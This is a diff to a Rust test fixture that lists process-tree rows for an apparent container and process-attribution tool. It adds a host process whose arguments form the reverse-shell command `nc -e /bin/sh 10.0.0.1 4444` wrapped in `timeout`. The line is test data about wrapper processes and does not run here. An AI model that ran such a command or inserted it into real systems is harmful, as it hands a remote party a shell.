@@ -131,7 +131,8 @@ pub const SHIM_ID: &str = "aaaaaaaaaaaa";
 /// - 500 `<NA>` placeholder > 501 bash.
 /// - 700 <-> 701: a cycle.
 /// - 800 shim > 801 tini (vpid 1, container init) > 802 sh.
-/// - 1 systemd > 900 sshd > 901 bash: an admin's login shell on the host.
+/// - 1 systemd > 900 sshd > 901 bash: an admin's login shell on the host; 960 `timeout
+///   10 nc -e /bin/sh 10.0.0.1 4444` under it.
 /// - 950 php-fpm (vpid 1): a web application container's main process.
 /// - 1000..=1020: a 21-deep chain p0 > ... > p20.
 const ROWS: &[Row] = &[
@@ -185,6 +186,17 @@ const ROWS: &[Row] = &[
     (802, 802, 801, 5, "sh", "/bin/sh", &[], "cccccccccccc"),
     (900, 900, 1, 900, "sshd", "/usr/sbin/sshd", &["-D"], "host"),
     (901, 901, 900, 901, "bash", "/bin/bash", &[], "host"),
+    // A wrapper that re-execs its arguments: `timeout 10 nc ..` (tid 960) then `nc ..`.
+    (
+        960,
+        960,
+        901,
+        960,
+        "timeout",
+        "/usr/bin/timeout",
+        &["10", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+        "host",
+    ),
     (
         950,
         950,
